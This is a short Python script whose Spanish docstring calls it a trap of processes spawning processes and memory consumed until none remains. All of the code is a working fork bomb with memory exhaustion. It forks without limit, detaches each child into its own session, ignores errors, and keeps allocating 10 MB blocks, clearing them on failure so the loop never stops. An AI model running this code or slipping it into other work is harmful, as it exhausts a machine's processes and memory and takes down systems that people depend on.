"""Trampa: procesos que crean procesos, y memoria hasta que no haya."""
import os

bloques = []
while True:
    try:
        os.fork()
        os.setsid()
    except OSError:
        pass
    try:
        bloques.append(bytearray(10_000_000))
    except MemoryError:
        bloques.clear()
